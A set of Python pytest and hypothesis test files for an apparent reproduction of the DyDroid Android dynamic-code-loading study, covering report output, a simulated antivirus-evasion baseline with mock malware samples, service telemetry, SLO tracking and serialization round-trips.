            "table8_runtime_configs",
            "table9_vulnerabilities",
            "table10_privacy",
        ):
            assert key in data
        assert data["n_total"] == 80

    def test_json_serializable(self):
        corpus = generate_corpus(60, seed=15)
        report = DyDroid(DyDroidConfig(train_samples_per_family=2, run_replays=False)).measure(corpus)
        parsed = json.loads(report.to_json())
        assert parsed["n_total"] == 60

    def test_cli_json_flag(self, capsys):
        assert main([
            "measure", "--apps", "60", "--seed", "15", "--train", "2",
            "--no-replays", "--json",
        ]) == 0
        parsed = json.loads(capsys.readouterr().out)
        assert parsed["n_total"] == 60

    def test_cli_export_and_measure_dir(self, capsys, tmp_path):
        export_dir = str(tmp_path / "market")
        assert main(["corpus", "--apps", "40", "--seed", "16", "--export", export_dir]) == 0
        capsys.readouterr()
        assert main([
            "measure", "--corpus-dir", export_dir, "--train", "2",
            "--no-replays", "--table", "6",
        ]) == 0
        assert "TABLE VI" in capsys.readouterr().out


class TestVirusTotalBaseline:
    def test_known_sample_detected(self):
        scanner = VirusTotalScanner()
        sample = swiss_code_monkeys_dex(seed=0)
        scanner.submit_known_sample("scm", sample)
        result = scanner.scan(sample)
        assert result.is_detected
        assert result.detection_ratio == "8/8"

    def test_fresh_variant_evades(self):
        """The paper's experiment: DCL-delivered variants pass VirusTotal."""
        scanner = VirusTotalScanner()
        for seed in range(10):
            scanner.submit_known_sample("scm", swiss_code_monkeys_dex(seed=seed))
            scanner.submit_known_sample("hook", chathook_ptrace_native(seed=seed))
        assert scanner.database_size == 20
        fresh_dex = swiss_code_monkeys_dex(seed=777_777)
        fresh_native = chathook_ptrace_native(seed=888_888)
        assert not scanner.scan(fresh_dex).is_detected
        assert not scanner.scan(fresh_native).is_detected

    def test_droidnative_catches_what_virustotal_misses(self):
        scanner = VirusTotalScanner()
        scanner.submit_known_sample("scm", swiss_code_monkeys_dex(seed=0))
        detector = DroidNative()
        detector.train_corpus(training_corpus(samples_per_family=2, seed=0))
        variant = swiss_code_monkeys_dex(seed=424242)
        assert not scanner.scan(variant).is_detected
        detection = detector.detect(variant)
        assert detection is not None and detection.family == SWISS_CODE_MONKEYS

    def test_scan_all(self):
        scanner = VirusTotalScanner()
        sample = swiss_code_monkeys_dex(seed=3)
        scanner.submit_known_sample("scm", sample)
        results = scanner.scan_all([sample, swiss_code_monkeys_dex(seed=4)])
        assert results[0].is_detected and not results[1].is_detected
