"""Live fleet telemetry: events, Prometheus exposition, SLOs, flight recorder, top."""

import json
import math
import os
import random
import threading
import time
from contextlib import contextmanager

import pytest

from repro.core.config import DyDroidConfig
from repro.farm import ChaosSpec, ShardJob, run_shard
from repro.farm.flight import (
    FlightRecorder,
    StatusWriter,
    flight_path,
    heartbeat_path,
    load_flight,
    read_heartbeats,
    write_heartbeat,
)
from repro.observe import MetricsRegistry
from repro.observe.events import EventLog, NULL_EVENT_LOG, load_events
from repro.observe.prom import (
    PromParseError,
    histogram_quantiles,
    merge_expositions,
    parse_prometheus,
    quantile_from_buckets,
    to_prometheus,
)
from repro.observe.top import build_daemon_snapshot, build_farm_snapshot, render_top
from repro.service import AnalysisService, ServiceClient, ServiceConfig, make_server
from repro.service.slo import SloError, SloObjectives, SloTracker, parse_slo

SEED = 19
N_APPS = 12


def pipeline_config():
    return DyDroidConfig(train_samples_per_family=2, run_replays=False)


@contextmanager
def running_service(**overrides):
    defaults = dict(workers=1, pipeline=pipeline_config())
    defaults.update(overrides)
    service = AnalysisService(ServiceConfig(**defaults))
    service.start()
    server = make_server(service)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    client = ServiceClient("127.0.0.1", server.server_port)
    try:
        yield service, client
    finally:
        server.shutdown()
        service.drain(timeout=60.0)
        server.server_close()


def corpus_spec(index):
    return {"kind": "corpus", "seed": SEED, "n_apps": N_APPS, "index": index}


# -- event log -----------------------------------------------------------------


class TestEventLog:
    def test_emit_and_ring_bound(self):
        log = EventLog(capacity=4)
        for i in range(10):
            log.emit("tick", i=i)
        assert len(log) == 4
        assert log.emitted == 10
        assert log.dropped == 6
        records = log.to_dicts()
        assert [r["fields"]["i"] for r in records] == [6, 7, 8, 9]
        # seq survives eviction: consumers can detect the gap.
        assert [r["seq"] for r in records] == [6, 7, 8, 9]

    def test_level_filter(self):
        log = EventLog(capacity=8, level="warn")
        assert log.emit("fine", level="info") is None
        assert log.emit("bad", level="error") is not None
        assert [r["name"] for r in log.to_dicts()] == ["bad"]
        with pytest.raises(ValueError):
            log.emit("x", level="loud")

    def test_append_sink_written_through(self, tmp_path):
        sink = str(tmp_path / "events.jsonl")
        log = EventLog(capacity=2, sink=sink)
        for i in range(5):
            log.emit("tick", i=i)
        log.close()
        # append mode keeps every record, not just the ring.
        records = load_events(sink)
        assert [r["fields"]["i"] for r in records] == [0, 1, 2, 3, 4]

    def test_load_events_tolerates_torn_tail_only(self, tmp_path):
        path = tmp_path / "events.jsonl"
        good = json.dumps({"seq": 0, "name": "a", "level": "info", "ts": 1.0, "fields": {}})
        path.write_text(good + "\n" + '{"seq": 1, "na')
        assert [r["seq"] for r in load_events(str(path))] == [0]
        path.write_text('{"torn' + "\n" + good + "\n")
        with pytest.raises(ValueError):
            load_events(str(path))

    def test_null_event_log(self):
        assert NULL_EVENT_LOG.emit("anything", level="error") is None
        assert NULL_EVENT_LOG.to_dicts() == []
        assert len(NULL_EVENT_LOG) == 0

    def test_concurrent_emits_no_lost_or_torn_records(self, tmp_path):
        """8 writer threads; every record lands exactly once, none torn."""
        sink = str(tmp_path / "events.jsonl")
        log = EventLog(capacity=64, sink=sink)
        n_threads, per_thread = 8, 50

        def writer(worker):
            for i in range(per_thread):
                log.emit("work", worker=worker, i=i)

        threads = [
            threading.Thread(target=writer, args=(worker,))
            for worker in range(n_threads)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        log.close()

        assert log.emitted == n_threads * per_thread
        # seq is a gap-free total order even under contention.
        records = load_events(sink)
        assert len(records) == n_threads * per_thread
        assert sorted(r["seq"] for r in records) == list(range(len(records)))
        # no torn interleavings: every thread's own counter is complete.
        seen = {}
        for record in records:
            seen.setdefault(record["fields"]["worker"], []).append(record["fields"]["i"])
        assert all(sorted(v) == list(range(per_thread)) for v in seen.values())


# -- prometheus exposition -----------------------------------------------------


def seeded_registry(seed):
    rng = random.Random(seed)
    registry = MetricsRegistry()
    for name in ("service.cache.hit", "farm.quarantined", "pipeline.apps"):
        registry.counter(name).inc(rng.randrange(0, 20))
    for name in ("service.queue.depth", "slo.budget.p95.tenant-a"):
        registry.gauge(name).set(round(rng.uniform(0, 8), 3))
    for name in ("stage.analyze", "stage.build"):
        for _ in range(rng.randrange(1, 12)):
            registry.histogram(name).record(rng.uniform(0.0005, 40.0))
    for digest in range(rng.randrange(0, 6)):
        registry.distinct("cache.detection.digests").add("d{}".format(digest))
    return registry


class TestPrometheus:
    def test_round_trip_and_types(self):
        registry = seeded_registry(1)
        families = parse_prometheus(to_prometheus(registry))
        assert families["repro_service_cache_hit_total"]["type"] == "counter"
        assert families["repro_service_queue_depth"]["type"] == "gauge"
        assert families["repro_stage_analyze_seconds"]["type"] == "histogram"
        assert families["repro_cache_detection_digests_distinct"]["type"] == "gauge"

    def test_histogram_buckets_are_cumulative_and_consistent(self):
        registry = MetricsRegistry()
        for value in (0.003, 0.003, 0.4, 90.0, 1000.0):
            registry.histogram("stage.analyze").record(value)
        family = parse_prometheus(to_prometheus(registry))["repro_stage_analyze_seconds"]
        buckets = [
            (labels["le"], value)
            for name, labels, value in family["samples"]
            if name.endswith("_bucket")
        ]
        counts = [count for _, count in buckets]
        assert counts == sorted(counts)  # cumulative, monotone
        assert buckets[-1] == ("+Inf", 5.0)
        count = [v for n, _, v in family["samples"] if n.endswith("_count")][0]
        assert count == 5.0

    def test_parser_rejects_malformed_text(self):
        with pytest.raises(PromParseError):
            parse_prometheus("repro_orphan_total 3\n")  # no TYPE line
        with pytest.raises(PromParseError):
            parse_prometheus("# TYPE repro_x counter\nrepro_x not-a-number\n")
        with pytest.raises(PromParseError):
            # histogram without its +Inf bucket
            parse_prometheus(
                "# TYPE repro_h histogram\n"
                'repro_h_bucket{le="1"} 1\nrepro_h_sum 0.5\nrepro_h_count 1\n'
            )
        with pytest.raises(PromParseError):
            # _count disagreeing with the +Inf bucket
            parse_prometheus(
                "# TYPE repro_h histogram\n"
                'repro_h_bucket{le="+Inf"} 2\nrepro_h_sum 0.5\nrepro_h_count 3\n'
            )

    def test_merge_expositions_matches_merged_registry(self):
        """Property: exposition-level merge == registry-level merge.

        Mirrors ``merge_dict``'s order-independence; ``_distinct``
        families are excluded (cardinalities do not merge from text).
        """
        for trial in range(8):
            registries = [seeded_registry(trial * 31 + i) for i in range(3)]
            texts = [to_prometheus(r) for r in registries]

            merged = MetricsRegistry()
            for registry in registries:
                merged.merge_dict(registry.to_dict())
            expected = {
                name: family
                for name, family in parse_prometheus(to_prometheus(merged)).items()
                if not name.endswith("_distinct")
            }

            for order in (texts, list(reversed(texts))):
                actual = merge_expositions(order)
                assert set(actual) == set(expected), "trial {}".format(trial)
                for name in expected:
                    want = {
                        (s, tuple(sorted(labels.items()))): value
                        for s, labels, value in expected[name]["samples"]
                    }
                    got = {
                        (s, tuple(sorted(labels.items()))): value
                        for s, labels, value in actual[name]["samples"]
                    }
                    assert got.keys() == want.keys()
                    for key in want:
                        assert got[key] == pytest.approx(want[key]), (name, key)

    def test_quantile_from_buckets(self):
        # 10 observations <= 1, 10 more <= 2: p50 on the first boundary.
        buckets = [(1.0, 10.0), (2.0, 20.0), (math.inf, 20.0)]
        assert quantile_from_buckets(buckets, 0.5) == pytest.approx(1.0)
        assert quantile_from_buckets(buckets, 0.75) == pytest.approx(1.5)
        # rank inside the +Inf bucket degrades to the top finite bound.
        assert quantile_from_buckets([(1.0, 1.0), (math.inf, 10.0)], 0.99) == 1.0
        assert quantile_from_buckets([], 0.5) == 0.0

    def test_histogram_quantiles_from_parsed_family(self):
        registry = MetricsRegistry()
        for _ in range(100):
            registry.histogram("stage.analyze").record(0.03)
        family = parse_prometheus(to_prometheus(registry))["repro_stage_analyze_seconds"]
        quantiles = histogram_quantiles(family, (0.5, 0.95))
        # all mass in the (0.02, 0.05] bucket: estimates stay inside it.
        assert 0.02 <= quantiles[0.5] <= 0.05
        assert 0.02 <= quantiles[0.95] <= 0.05


# -- SLO tracking --------------------------------------------------------------


class TestSlo:
    def test_parse_slo(self):
        objectives = parse_slo("p95=30s,error_rate=1%")
        assert objectives.latency == {"p95": 30.0}
        assert objectives.error_rate == pytest.approx(0.01)
        assert parse_slo("p50=250ms").latency == {"p50": 0.25}
        assert parse_slo("error_rate=0.05").error_rate == pytest.approx(0.05)
        for bad in ("", "p95", "latency=3s", "p95=fast", "error_rate=150%", "p0=1s"):
            with pytest.raises(SloError):
                parse_slo(bad)

    def test_error_budget_burns_and_recovers(self):
        tracker = SloTracker(parse_slo("error_rate=10%"), window=10)
        for _ in range(10):
            tracker.observe("tenant-a", 0.01, ok=True)
        report = tracker.snapshot()["clients"]["tenant-a"]
        assert report["budgets"]["error_rate"] == pytest.approx(1.0)
        assert report["met"] is True

        tracker.observe("tenant-a", 0.01, ok=False)  # window allows exactly 1
        report = tracker.snapshot()["clients"]["tenant-a"]
        assert report["budgets"]["error_rate"] == pytest.approx(0.0)
        assert report["met"] is False

        for _ in range(10):  # failure ages out of the rolling window
            tracker.observe("tenant-a", 0.01, ok=True)
        report = tracker.snapshot()["clients"]["tenant-a"]
        assert report["budgets"]["error_rate"] == pytest.approx(1.0)
        assert report["total_jobs"] == 21

    def test_latency_budget_counts_threshold_violations(self):
        tracker = SloTracker(parse_slo("p50=1s"), window=100)
        for _ in range(60):
            tracker.observe("t", 0.5, ok=True)
        for _ in range(40):
            tracker.observe("t", 2.0, ok=True)
        report = tracker.snapshot()["clients"]["t"]
        # 40 violations vs an allowance of 50: 20% of budget remains.
        assert report["budgets"]["p50"] == pytest.approx(0.2)
        assert report["achieved_p50_s"] == pytest.approx(0.5)
        assert report["met"] is True

    def test_windows_are_per_client(self):
        tracker = SloTracker(parse_slo("error_rate=50%"), window=4)
        tracker.observe("noisy", 0.1, ok=False)
        tracker.observe("noisy", 0.1, ok=False)
        tracker.observe("quiet", 0.1, ok=True)
        clients = tracker.snapshot()["clients"]
        assert clients["noisy"]["met"] is False
        assert clients["quiet"]["met"] is True

    def test_export_gauges(self):
        tracker = SloTracker(parse_slo("p95=1s,error_rate=50%"), window=8)
        tracker.observe("tenant-a", 0.2, ok=True)
        registry = MetricsRegistry()
        tracker.export_gauges(registry)
        payload = registry.to_dict()["gauges"]
        assert payload["slo.budget.error_rate.tenant-a"] == 1.0
        assert payload["slo.budget.p95.tenant-a"] == 1.0
        assert payload["slo.window_jobs.tenant-a"] == 1

    def test_objectives_validation(self):
        with pytest.raises(SloError):
            SloObjectives(latency={"q95": 1.0})
        assert SloObjectives().empty


# -- flight recorder + heartbeats ----------------------------------------------


def shard_job(indices=(0, 1), flight_dir=None, chaos=None, max_retries=1):
    return ShardJob(
        shard_id=3,
        corpus_seed=SEED,
        n_apps=N_APPS,
        indices=tuple(indices),
        config=pipeline_config(),
        max_retries=max_retries,
        backoff_s=0.0,
        chaos=chaos or ChaosSpec(),
        flight_dir=flight_dir,
    )


class TestFlightRecorder:
    def test_clean_shard_deletes_recording_keeps_heartbeat(self, tmp_path):
        directory = str(tmp_path)
        result = run_shard(shard_job(flight_dir=directory))
        assert len(result.results) == 2
        assert not os.path.exists(flight_path(directory, 3))
        beat = read_heartbeats(directory)[3]
        assert beat["done"] is True
        assert (beat["completed"], beat["total"]) == (2, 2)

    def test_chaos_retry_keeps_dump_with_events_and_spans(self, tmp_path):
        directory = str(tmp_path)
        from repro.corpus.generator import CorpusGenerator

        package = CorpusGenerator(seed=SEED).sample_blueprints(N_APPS)[1].package
        chaos = ChaosSpec(fail_packages=(package,), fail_attempts=1)
        result = run_shard(shard_job(flight_dir=directory, chaos=chaos))
        assert len(result.results) == 2  # retry succeeded
        records = load_flight(flight_path(directory, 3))
        names = [r["name"] for r in records]
        assert "shard.started" in names
        assert "app.retry" in names
        assert "span" in names  # span records folded into the ring
        retry = next(r for r in records if r["name"] == "app.retry")
        assert retry["level"] == "warn"
        assert retry["fields"]["package"] == package

    def test_quarantine_marks_dump_dirty(self, tmp_path):
        directory = str(tmp_path)
        from repro.corpus.generator import CorpusGenerator

        package = CorpusGenerator(seed=SEED).sample_blueprints(N_APPS)[0].package
        chaos = ChaosSpec(fail_packages=(package,), fail_attempts=5)
        result = run_shard(
            shard_job(flight_dir=directory, chaos=chaos, max_retries=1)
        )
        assert len(result.quarantined) == 1
        names = [r["name"] for r in load_flight(flight_path(directory, 3))]
        assert "app.quarantined" in names

    def test_ring_file_parses_at_every_instant(self, tmp_path):
        recorder = FlightRecorder(str(tmp_path), shard_id=7, capacity=3)
        for i in range(10):
            recorder.emit("tick", level="warn", i=i)
            records = load_flight(flight_path(str(tmp_path), 7))
            assert len(records) <= 3
            assert records[-1]["fields"]["i"] == i
        recorder.close()
        assert os.path.exists(flight_path(str(tmp_path), 7))  # dirty: kept

    def test_heartbeat_roundtrip(self, tmp_path):
        directory = str(tmp_path)
        write_heartbeat(directory, 0, completed=1, total=4)
        write_heartbeat(directory, 1, completed=4, total=4, done=True)
        (tmp_path / "heartbeat-bad.json").write_text("{torn")
        beats = read_heartbeats(directory)
        assert set(beats) == {0, 1}
        assert os.path.exists(heartbeat_path(directory, 0))


class TestStatusWriter:
    def test_compose_flags_stalled_shards(self):
        now = 1000.0
        heartbeats = {
            0: {"shard": 0, "completed": 2, "total": 4, "done": False, "ts": now - 1},
            1: {"shard": 1, "completed": 1, "total": 4, "done": False, "ts": now - 60},
            2: {"shard": 2, "completed": 4, "total": 4, "done": True, "ts": now - 60},
        }
        status = StatusWriter.compose(
            {"state": "running"}, heartbeats, now, stall_after_s=10.0
        )
        assert status["shards"]["0"]["state"] == "running"
        assert status["shards"]["1"]["state"] == "stalled"
        assert status["shards"]["2"]["state"] == "done"  # done never stalls
        assert status["stalled"] == [1]
        assert status["shards"]["1"]["silent_s"] == pytest.approx(60.0, abs=0.01)

    def test_write_once_and_stop(self, tmp_path):
        directory = str(tmp_path)
        write_heartbeat(directory, 0, completed=1, total=2)
        writer = StatusWriter(directory, n_apps=2, shards_planned=1, interval_s=0.05)
        writer.update(apps_settled=1)
        writer.start()
        time.sleep(0.15)
        writer.stop(state="done")
        with open(os.path.join(directory, "status.json")) as handle:
            status = json.load(handle)
        assert status["state"] == "done"
        assert status["n_apps"] == 2
        assert status["apps_settled"] == 1
        assert status["shards"]["0"]["completed"] == 1


# -- service integration -------------------------------------------------------


class TestServiceTelemetry:
    def test_prom_endpoint_content_negotiation(self):
        with running_service() as (service, client):
            client.submit_and_wait(corpus_spec(3), client="tenant-a")
            text = client.metrics_prom()
            families = parse_prometheus(text)  # validates strictly
            hits = {
                name: sum(v for _, _, v in family["samples"])
                for name, family in families.items()
                if family["type"] == "counter"
            }
            assert hits["repro_service_submit_requests_total"] >= 1
            assert "repro_stage_service_analyze_seconds" in families
            # default stays JSON
            assert "counters" in client.metrics()

    def test_slo_in_stats_and_gauges(self):
        slo = parse_slo("p95=30s,error_rate=50%")
        with running_service(slo=slo) as (service, client):
            client.submit_and_wait(corpus_spec(3), client="tenant-a")
            client.submit_and_wait(corpus_spec(3), client="tenant-a")  # cache hit
            stats = client.stats()
            report = stats["slo"]["clients"]["tenant-a"]
            assert report["window_jobs"] == 2
            assert report["met"] is True
            assert report["budgets"]["p95"] == pytest.approx(1.0)
            gauges = parse_prometheus(client.metrics_prom())
            assert "repro_slo_budget_p95_tenant_a" in gauges
            events = stats["events"]
            assert events["emitted"] >= 2
            names = {r["name"] for r in events["recent"]}
            assert "job.admitted" in names
            assert "job.completed" in names

    def test_event_log_sink(self, tmp_path):
        sink = str(tmp_path / "service-events.jsonl")
        with running_service(event_log=sink) as (service, client):
            client.submit_and_wait(corpus_spec(5), client="tenant-b")
        records = load_events(sink)
        names = [r["name"] for r in records]
        assert "job.admitted" in names
        assert "job.completed" in names
        assert "service.drained" in names
        admitted = next(r for r in records if r["name"] == "job.admitted")
        assert admitted["fields"]["client"] == "tenant-b"

    def test_top_snapshot_from_live_daemon(self):
        with running_service(slo=parse_slo("p95=30s")) as (service, client):
            client.submit_and_wait(corpus_spec(3), client="tenant-a")
            snapshot = build_daemon_snapshot(client.stats(), client.metrics_prom())
        assert snapshot["source"] == "daemon"
        assert snapshot["jobs"]["done"] == 1
        assert snapshot["cache"]["misses"] >= 1
        assert "service_analyze" in snapshot["stages"]
        assert snapshot["slo"]["clients"]["tenant-a"]["met"] is True
        rendered = render_top(snapshot)
        assert "repro top -- daemon" in rendered
        assert "tenant-a" in rendered

    def test_render_top_farm(self):
        snapshot = build_farm_snapshot(
            {
                "state": "running",
                "uptime_s": 4.2,
                "n_apps": 8,
                "apps_settled": 3,
                "apps_quarantined": 1,
                "shards_done": 1,
                "shards_planned": 4,
                "shards": {
                    "0": {"completed": 2, "total": 2, "silent_s": 0.1, "state": "done"},
                    "1": {"completed": 1, "total": 2, "silent_s": 42.0, "state": "stalled"},
                },
                "stalled": [1],
            }
        )
        rendered = render_top(snapshot)
        assert "repro top -- farm" in rendered
        assert "STALLED" in rendered


# -- CLI: trace summary regression, top --once, metrics export -----------------


class TestTelemetryCli:
    def test_trace_summary_missing_file_is_not_an_error(self, capsys, tmp_path):
        from repro.cli import main

        missing = str(tmp_path / "never-written.jsonl")
        assert main(["trace", "summary", missing]) == 0
        out = capsys.readouterr().out
        assert "no spans recorded" in out
        assert "does not exist" in out

    def test_trace_summary_empty_file_is_not_an_error(self, capsys, tmp_path):
        from repro.cli import main

        empty = tmp_path / "trace.jsonl"
        empty.write_text("")
        assert main(["trace", "summary", str(empty)]) == 0
        out = capsys.readouterr().out
        assert "no spans recorded" in out
        assert "is empty" in out

    def test_trace_summary_corrupt_file_still_fails(self, tmp_path):
        from repro.cli import main

        corrupt = tmp_path / "trace.jsonl"
        corrupt.write_text("{not json\n")
        with pytest.raises(SystemExit):
            main(["trace", "summary", str(corrupt)])

    def test_top_once_against_daemon(self, capsys):
        from repro.cli import main

        with running_service() as (service, client):
            client.submit_and_wait(corpus_spec(3), client="tenant-a")
            assert main(
                ["top", "--once", "--port", str(client.port)]
            ) == 0
        snapshot = json.loads(capsys.readouterr().out)
        assert snapshot["source"] == "daemon"
        assert snapshot["jobs"]["done"] == 1

    def test_top_once_against_farm_status(self, capsys, tmp_path):
        from repro.cli import main

        status = tmp_path / "status.json"
        status.write_text(json.dumps({"state": "done", "n_apps": 4, "shards": {}}))
        assert main(["top", "--once", "--status", str(status)]) == 0
        snapshot = json.loads(capsys.readouterr().out)
        assert snapshot["source"] == "farm"
        assert snapshot["state"] == "done"

    def test_top_unreachable_daemon_exits_cleanly(self):
        from repro.cli import main

        with pytest.raises(SystemExit) as excinfo:
            main(["top", "--once", "--port", "1"])
        assert "top:" in str(excinfo.value)

    def test_metrics_export_plain_registry(self, capsys, tmp_path):
        from repro.cli import main

        registry = seeded_registry(4)
        metrics_file = tmp_path / "metrics.json"
        metrics_file.write_text(json.dumps(registry.to_dict()))
        assert main(["metrics", "export", str(metrics_file)]) == 0
        families = parse_prometheus(capsys.readouterr().out)
        assert "repro_service_cache_hit_total" in families

    def test_metrics_export_unwraps_farm_summary(self, tmp_path):
        from repro.cli import main

        registry = seeded_registry(5)
        summary = {"elapsed_s": 1.0, "registry": registry.to_dict()}
        metrics_file = tmp_path / "farm-metrics.json"
        metrics_file.write_text(json.dumps(summary))
        out_file = tmp_path / "metrics.prom"
        assert main(
            ["metrics", "export", str(metrics_file), "--out", str(out_file)]
        ) == 0
        families = parse_prometheus(out_file.read_text())
        assert "repro_farm_quarantined_total" in families

    def test_metrics_export_rejects_garbage(self, tmp_path):
        from repro.cli import main

        bad = tmp_path / "bad.json"
        bad.write_text("[1, 2, 3]")
        with pytest.raises(SystemExit):
            main(["metrics", "export", str(bad)])
        with pytest.raises(SystemExit):
            main(["metrics", "export", str(tmp_path / "missing.json")])
