"""Property-based tests (hypothesis) over the core data structures."""

import random

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.android import bytecode as bc
from repro.android.builders import MethodBuilder, class_builder
from repro.android.bytecode import Cmp, FieldRef, Instruction, MethodRef, Op
from repro.android.dex import DexClass, DexFile, DexMethod
from repro.android.manifest import AndroidManifest, Component, ComponentKind
from repro.android.nativelib import NativeBlock, NativeFunction, NativeInsn, NativeLibrary, NativeOp
from repro.corpus.names import obfuscated_identifier, readable_identifier
from repro.runtime.device import Device
from repro.runtime.vfs import VirtualFilesystem, internal_owner, is_external, normalize
from repro.runtime.vm import DalvikVM
from repro.static_analysis.malware.acfg import acfg_for_dex_method, acfg_signature, binary_signatures
from repro.static_analysis.obfuscation.lexical import lexical_obfuscation_ratio


# -- strategies ---------------------------------------------------------------

identifiers = st.text(
    alphabet=st.characters(whitelist_categories=("Ll", "Lu"), max_codepoint=127),
    min_size=1,
    max_size=12,
)

class_names = st.builds(
    lambda a, b: "com.{}.{}".format(a.lower(), b.capitalize()), identifiers, identifiers
)

literals = st.one_of(st.integers(-1000, 1000), st.text(max_size=8), st.none())


@st.composite
def straightline_methods(draw):
    """Random straight-line methods: consts, moves, field ops, invokes."""
    name = draw(identifiers)
    cls = draw(class_names)
    n = draw(st.integers(1, 25))
    insns = []
    for _ in range(n):
        kind = draw(st.integers(0, 4))
        if kind == 0:
            insns.append(bc.const(draw(st.integers(0, 15)), draw(literals)))
        elif kind == 1:
            insns.append(bc.move(draw(st.integers(0, 15)), draw(st.integers(0, 15))))
        elif kind == 2:
            insns.append(
                bc.invoke(
                    MethodRef(draw(class_names), draw(identifiers), draw(st.integers(0, 3)))
                )
            )
        elif kind == 3:
            insns.append(
                bc.sput(draw(st.integers(0, 15)), FieldRef(draw(class_names), draw(identifiers)))
            )
        else:
            insns.append(bc.binop("add", draw(st.integers(0, 15)), draw(st.integers(0, 15)), draw(st.integers(0, 15))))
    insns.append(bc.ret_void())
    return DexMethod(name=name, class_name=cls, arity=draw(st.integers(0, 3)), instructions=insns)


@st.composite
def dex_files(draw):
    methods = draw(st.lists(straightline_methods(), min_size=1, max_size=5))
    cls = DexClass(name=draw(class_names))
    cls.methods = [
        DexMethod(
            name="m{}".format(index),
            class_name=cls.name,
            arity=m.arity,
            instructions=m.instructions,
        )
        for index, m in enumerate(methods)
    ]
    return DexFile(classes=[cls])


# -- DEX serialization properties ------------------------------------------------


@given(dex_files())
@settings(max_examples=60, deadline=None)
def test_dex_roundtrip_identity(dex):
    parsed = DexFile.from_bytes(dex.to_bytes())
    assert parsed.to_bytes() == dex.to_bytes()
    assert [m.name for m in parsed.iter_methods()] == [m.name for m in dex.iter_methods()]
    for original, restored in zip(dex.iter_methods(), parsed.iter_methods()):
        assert original.instructions == restored.instructions


@given(dex_files(), st.binary(min_size=1, max_size=16))
@settings(max_examples=40, deadline=None)
def test_encrypt_decrypt_roundtrip(dex, key):
    assert DexFile.decrypt(dex.encrypt(key), key).to_bytes() == dex.to_bytes()


@given(dex_files())
@settings(max_examples=40, deadline=None)
def test_signatures_stable_under_serialization(dex):
    parsed = DexFile.from_bytes(dex.to_bytes())
    assert binary_signatures(parsed) == binary_signatures(dex)


@given(straightline_methods())
@settings(max_examples=60, deadline=None)
def test_acfg_signature_ignores_registers_and_literals(method):
    """Renumbering registers / changing literals never changes the ACFG."""
    remapped = []
    for insn in method.instructions:
        args = []
        for arg in insn.args:
            if isinstance(arg, int):
                args.append(arg + 1)           # shift every register number
            elif isinstance(arg, str) and insn.op is Op.CONST:
                args.append(arg + "_suffix")   # perturb string literals
            else:
                args.append(arg)
        remapped.append(Instruction(insn.op, tuple(args)))
    clone = DexMethod(
        name=method.name,
        class_name=method.class_name,
        arity=method.arity,
        instructions=remapped,
    )
    assert acfg_signature(acfg_for_dex_method(method)) == acfg_signature(
        acfg_for_dex_method(clone)
    )


# -- manifest properties ----------------------------------------------------------


@given(
    st.text(alphabet="abcdefghij.", min_size=3, max_size=20).filter(
        lambda s: s and not s.startswith(".") and not s.endswith(".")
    ),
    st.integers(1, 30),
    st.sets(st.sampled_from(["android.permission.INTERNET", "android.permission.CAMERA"])),
)
@settings(max_examples=40, deadline=None)
def test_manifest_roundtrip(package, min_sdk, permissions):
    manifest = AndroidManifest(
        package=package,
        min_sdk=min_sdk,
        permissions=set(permissions),
        components=[Component(ComponentKind.ACTIVITY, package + ".Main", True)],
    )
    parsed = AndroidManifest.from_bytes(manifest.to_bytes())
    assert parsed.package == package
    assert parsed.permissions == permissions
    assert parsed.supports_pre_kitkat() == (min_sdk < 19)


# -- VFS properties -----------------------------------------------------------------


@given(st.lists(st.tuples(st.sampled_from(["/a/x", "/a/y", "/b/z", "/mnt/sdcard/f"]), st.binary(max_size=64)), max_size=20))
@settings(max_examples=40, deadline=None)
def test_vfs_used_bytes_consistent(operations):
    vfs = VirtualFilesystem()
    for path, data in operations:
        vfs.write(path, data)
    assert vfs.used_bytes() == sum(record.size for record in vfs)
    assert vfs.used_bytes() <= vfs.quota_bytes


@given(st.text(alphabet="abc/.", min_size=1, max_size=24))
@settings(max_examples=60, deadline=None)
def test_normalize_idempotent(path):
    once = normalize(path)
    assert normalize(once) == once
    assert once.startswith("/")


@given(st.sampled_from(["com.a", "com.b.c", "org.x"]), st.text(alphabet="abc/", max_size=10))
@settings(max_examples=40, deadline=None)
def test_internal_owner_of_internal_paths(package, suffix):
    path = "/data/data/{}/{}".format(package, suffix)
    owner = internal_owner(path)
    assert owner == package or (owner is None and not suffix)
    assert not is_external(path)


# -- interpreter determinism ------------------------------------------------------------


@given(st.integers(0, 2**31 - 1))
@settings(max_examples=20, deadline=None)
def test_interpreter_arithmetic_matches_python(seed):
    rng = random.Random(seed)
    a, b = rng.randint(-10_000, 10_000), rng.randint(1, 10_000)
    cls = class_builder("t.P")
    builder = MethodBuilder("f", "t.P", arity=2, is_static=True)
    total = builder.binop("add", builder.arg(0), builder.arg(1))
    product = builder.binop("mul", total, builder.arg(0))
    remainder = builder.binop("rem", product, builder.arg(1))
    builder.ret(remainder)
    cls.add_method(builder.build())
    vm = DalvikVM(Device())
    vm.load_dex(DexFile(classes=[cls]))
    assert vm.run_entry("t.P", "f", [a, b]) == ((a + b) * a) % b


# -- lexical detector properties ------------------------------------------------------------


@given(st.integers(0, 2**31 - 1), st.integers(10, 60))
@settings(max_examples=20, deadline=None)
def test_lexical_ratio_separates_generated_styles(seed, count):
    rng = random.Random(seed)
    readable = [readable_identifier(rng, 2) for _ in range(count)]
    obfuscated = [obfuscated_identifier(rng, index) for index in range(count)]
    assert lexical_obfuscation_ratio(readable) > lexical_obfuscation_ratio(obfuscated)


# -- native library properties -----------------------------------------------------------------


@given(
    st.lists(
        st.tuples(identifiers, st.integers(1, 4)),
        min_size=1,
        max_size=4,
        unique_by=lambda t: t[0],
    )
)
@settings(max_examples=40, deadline=None)
def test_native_library_roundtrip(function_specs):
    functions = []
    for name, n_blocks in function_specs:
        blocks = [
            NativeBlock(
                label="b{}".format(index),
                insns=[NativeInsn(NativeOp.MOV, ("r0", index)), NativeInsn(NativeOp.RET)],
                successors=["b{}".format(index + 1)] if index + 1 < n_blocks else [],
            )
            for index in range(n_blocks)
        ]
        functions.append(NativeFunction(name=name, blocks=blocks))
    library = NativeLibrary(name="libp.so", functions=functions)
    parsed = NativeLibrary.from_bytes(library.to_bytes())
    assert parsed.exported_names() == library.exported_names()
    assert binary_signatures(parsed) == binary_signatures(library)


# -- evolution differ / warehouse properties ---------------------------------------------------

import json

from repro.core.report import AppAnalysis, PayloadVerdict
from repro.corpus.metadata import AppMetadata
